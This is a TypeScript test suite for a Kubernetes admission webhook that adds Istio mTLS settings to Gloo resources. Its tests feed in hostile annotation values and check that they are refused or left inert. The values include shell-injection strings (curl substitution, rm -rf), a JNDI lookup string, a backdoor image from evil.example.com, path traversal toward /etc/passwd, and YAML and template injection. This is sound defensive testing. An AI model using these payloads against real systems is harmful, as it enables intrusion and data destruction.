import { isDeepStrictEqual } from 'node:util'
import { type Test, t } from 'tap'
import type { AdmissionReview } from '../../src/core/respond.ts'
import type { JsonObject } from '../../src/core/types.ts'
import { ENABLED, reviewOf, upstream } from '../harness/build.ts'
import { gatewayProxy } from '../harness/live.ts'
import { operationsOf, patched } from '../harness/patched.ts'
import { ATTACK_ANNOTATIONS } from './attack-annotations.ts'
import { startAttacked } from './attacked.ts'
import { proveFaults } from './fault.ts'

const server = await startAttacked(t)

const PREFIX = 'gloo-istio.io'
const OF_UPSTREAM = ['mtls', 'mesh', 'verify-identity', 'sni', 'subject-alt-names']
const OF_PROXY = ['inject', 'meshes', 'interlock']

const annotated = (object: JsonObject, annotations: JsonObject): JsonObject => ({
  ...object,
  metadata: { ...(object['metadata'] as JsonObject), annotations },
})

const proxy = (annotations: JsonObject): JsonObject =>
  annotated(gatewayProxy('1.17.3'), annotations)

/** An enabled Upstream, and one whose every annotation but one is as it should be. */
const upstreamsWith = (value: string): readonly JsonObject[] =>
  OF_UPSTREAM.map(key => upstream({}, { ...ENABLED, [`${PREFIX}/${key}`]: value }))

const proxiesWith = (value: string): readonly JsonObject[] =>
  OF_PROXY.map(key => proxy({ [`${PREFIX}/${key}`]: value }))

interface Seen {
  readonly object: JsonObject
  readonly answer: AdmissionReview
  readonly patch: string
  readonly warnings: string
}

/** Has each reviewed, in turn and with /livez asked meanwhile. */
const review = async (
  objects: readonly JsonObject[],
  more: JsonObject = {},
): Promise<{ readonly seen: readonly Seen[]; readonly held: string }> => {
  let seen: Seen[] = []
  const held = await server.unmoved(async () => {
    seen = []
    for (const object of objects) {
      const { status, body } = await server.send({ body: JSON.stringify(reviewOf(object, more)) })
      if (status !== 200) throw new Error(`answered with ${status}: ${body.slice(0, 300)}`)
      const answer: AdmissionReview = JSON.parse(body)
      const patch = JSON.stringify(operationsOf(answer))
      seen.push({ object, answer, patch, warnings: (answer.response.warnings ?? []).join('\n') })
    }
  })
  return { seen, held }
}

const isUntouched = (t: Test, { answer, patch }: Seen): void => {
  t.equal(answer.response.allowed, true)
  t.equal(patch, '[]')
}

const imagesIn = (patch: string): readonly string[] =>
  [...patch.matchAll(/"image":"([^"]+)"/g)].map(([, image = '']) => image).toSorted()

const SHELL = ['$(curl example.com)', '`id`', ';rm$IFS-rf$IFS/', "'||id||'", '"&&id&&"']

proveFaults(t, ATTACK_ANNOTATIONS, {
  'ATK-21': async t => {
    const env = 'istio-system.istio\n        - name: EVIL\n          value: x'
    const values = [env, env.replaceAll('\n', '\r')]
    const { seen, held } = await review(
      values.flatMap(value => [
        proxy({ [`${PREFIX}/meshes`]: value }),
        proxy({ [`${PREFIX}/inject`]: value }),
        ...upstreamsWith(value),
      ]),
    )
    for (const one of seen) {
      isUntouched(t, one)
      t.match(one.warnings, 'gloo-istio: ')
      for (const warning of one.answer.response.warnings ?? [])
        t.notMatch(warning, /[\n\r]/, 'in one line')
    }
    return `${seen.length} objects unchanged; ${held}`
  },

  'ATK-22': async t => {
    const { seen, held } = await review(SHELL.flatMap(upstreamsWith))
    const taken = seen.filter(({ patch }) => patch !== '[]')
    for (const { object, answer } of taken) {
      const names = JSON.stringify(patched(object, answer))
      t.match(names, /"verifySubjectAltName":\["[^\]]*"\]/)
      const { spec } = patched(object, answer) as { spec: { sslConfig: JsonObject } }
      const { verifySubjectAltName, ...others } = spec.sslConfig
      t.ok(SHELL.some(value => isDeepStrictEqual(verifySubjectAltName, [value])))
      t.notMatch(JSON.stringify(others), /\$|`|;|\||&/)
    }
    const bare = SHELL.filter(value => !value.includes(' '))
    t.equal(taken.length, bare.length, 'SPIFFE names may be any, and are only compared')
    return `${seen.length - taken.length} refused, ${taken.length} kept as one SPIFFE name; ${held}`
  },

  'ATK-23': async t => {
    const evil = 'evil.example.com/backdoor:1'
    const keys = [
      'sidecar.istio.io/proxyImage',
      'sidecar.istio.io/inject',
      'inject.istio.io/templates',
      `${PREFIX}/sds-image`,
      `${PREFIX}/proxy-image`,
      `${PREFIX}/image`,
    ]
    const annotations = Object.fromEntries(keys.map(key => [key, evil]))
    const { seen, held } = await review([
      proxy({ ...annotations, [`${PREFIX}/meshes`]: 'istio-system.istio' }),
    ])
    const images = seen.flatMap(({ patch }) => imagesIn(patch))
    t.strictSame(images, ['docker.io/istio/proxyv2:1.22.3', 'quay.io/solo-io/sds:1.17.3'])
    return `images ${images.join(' and ')}; ${held}`
  },

  'ATK-24': async t => {
    const names = [
      '../../etc.passwd',
      'a.../../../etc',
      'istio-system.../istio',
      '/etc.x',
      '...',
      'a.b/../c',
    ]
    const { seen, held } = await review([
      ...names.map(name => upstream({}, { ...ENABLED, [`${PREFIX}/mesh`]: name })),
      ...names.map(name => proxy({ [`${PREFIX}/meshes`]: name })),
    ])
    for (const one of seen) {
      isUntouched(t, one)
      t.match(one.warnings, 'MalformedMeshReference')
    }
    return `${seen.length} × MalformedMeshReference; ${held}`
  },

  'ATK-25': async t => {
    const keys = ['a/b~c', '~1spec~1sslConfig', '~0', '~', 'spec/kube', '-', '0', '']
    const strange = Object.fromEntries(keys.map(key => [key, '~1']))
    const spec = { kube: { serviceName: 'details', selector: strange }, ...strange }
    const objects = [
      upstream({ spec, status: strange }, { ...ENABLED, ...strange }),
      proxy({ ...strange, [`${PREFIX}/meshes`]: 'istio-system.istio' }),
    ]
    const { seen, held } = await review(objects)
    for (const { object, answer, patch } of seen) {
      const after: JsonObject = patched(object, answer)
      t.not(patch, '[]')
      const kept = structuredClone(after)
      for (const { path } of operationsOf(answer))
        t.match(path, /sslConfig|injected|volumes|containers/)
      const annotations = (kept['metadata'] as { annotations: JsonObject }).annotations
      t.strictSame(
        Object.fromEntries(keys.map(key => [key, annotations[key]])),
        strange,
        'what was there is there',
      )
      if (object['kind'] === 'Upstream') {
        const { sslConfig: _, ...others } = after['spec'] as JsonObject
        t.strictSame(others, object['spec'])
        t.strictSame(after['status'], object['status'])
      }
    }
    return `${seen.length} patches applied; ${held}`
  },

  'ATK-26': async t => {
    const values = [
      '{{ .Values.secret }}',
      '$' + '{jndi:ldap://example.com/a}',
      '%s%n%x',
      '{value}{where}{mesh}{known}{reason}',
      '<%= 7*7 %>',
      '$&$1$`',
    ]
    const keys = OF_UPSTREAM.filter(key => key !== 'subject-alt-names')
    const objects = values.flatMap(value =>
      keys.map(key => upstream({}, { ...ENABLED, [`${PREFIX}/${key}`]: value })),
    )
    const { seen, held } = await review(objects)
    for (const [at, one] of seen.entries()) {
      isUntouched(t, one)
      t.ok(one.warnings.includes(`"${values[Math.floor(at / keys.length)]}"`), one.warnings)
    }
    return `${seen.length} values quoted as they were; ${held}`
  },

  'ATK-27': async t => {
    const values = [
      'x'.repeat(262_144),
      'a,'.repeat(131_072),
      '1:enabled,'.repeat(26_214),
      '.'.repeat(262_144),
    ]
    const { seen, held } = await review(
      values.flatMap(value => [...upstreamsWith(value), ...proxiesWith(value)]),
    )
    const sizes = seen.map(({ answer }) => {
      const { patch: _, ...others } = answer.response
      return JSON.stringify(others).length
    })
    t.ok(Math.max(...sizes) < 4096, `${Math.max(...sizes)} bytes`)
    const longest = Math.max(
      ...server
        .log()
        .split('\n')
        .map(line => line.length),
    )
    t.ok(longest < 8192, `${longest} bytes in a line of the log`)
    return `${seen.length} answers of ${Math.max(...sizes)} bytes at most, but for patches; ${held}`
  },

  'ATK-28': async t => {
    const keys = [
      'gloo-isti\u043e.io/mtls',
      'gloo-istio.io/mtls\u200b',
      'GLOO-ISTIO.IO/mtls',
      ' gloo-istio.io/mtls',
    ]
    const values = [
      '\u0435nabled',
      'enabled\u200b',
      '\uff45\uff4e\uff41\uff42\uff4c\uff45\uff44',
      'Enabled',
      'true',
    ]
    const byKey = await review(keys.map(key => upstream({}, { [key]: 'enabled' })))
    for (const one of byKey.seen) isUntouched(t, one)
    const byValue = await review(values.map(value => upstream({}, { 'gloo-istio.io/mtls': value })))
    for (const one of byValue.seen) {
      isUntouched(t, one)
      t.match(one.warnings, 'InvalidAnnotation')
    }
    return `${keys.length} keys not known, ${values.length} × InvalidAnnotation; ${byValue.held}`
  },

  'ATK-29': async t => {
    const claims = ['deadbeef', '', null, { __proto__: null }, 7].flatMap(print =>
      ['containers[gateway-proxy]', 'volumes[envoy-config]', 'sslConfig', 'spec', '__proto__'].map(
        path => JSON.stringify({ [path]: print, mesh: 'supergloo-system.istio' }),
      ),
    )
    const marks = [...claims, '{', '[]', 'null', '"x"', '{"__proto__":{"sslConfig":"x"}}']
    const sslConfig = { sni: 'mine.example.com', secretRef: { name: 'mine' } }
    const off = { [`${PREFIX}/mtls`]: 'disabled', [`${PREFIX}/inject`]: 'disabled' }
    const { seen, held } = await review(
      marks.flatMap(mark => [
        proxy({ ...off, [`${PREFIX}/injected`]: mark }),
        upstream(
          { spec: { kube: { serviceName: 'details' }, sslConfig } },
          { ...off, [`${PREFIX}/injected`]: mark },
        ),
      ]),
    )
    for (const { object, answer, patch } of seen) {
      const after: JsonObject = patched(object, answer)
      t.strictSame(after['spec'], object['spec'], patch)
    }
    return `${seen.length} objects with all that they had; ${held}`
  },
})
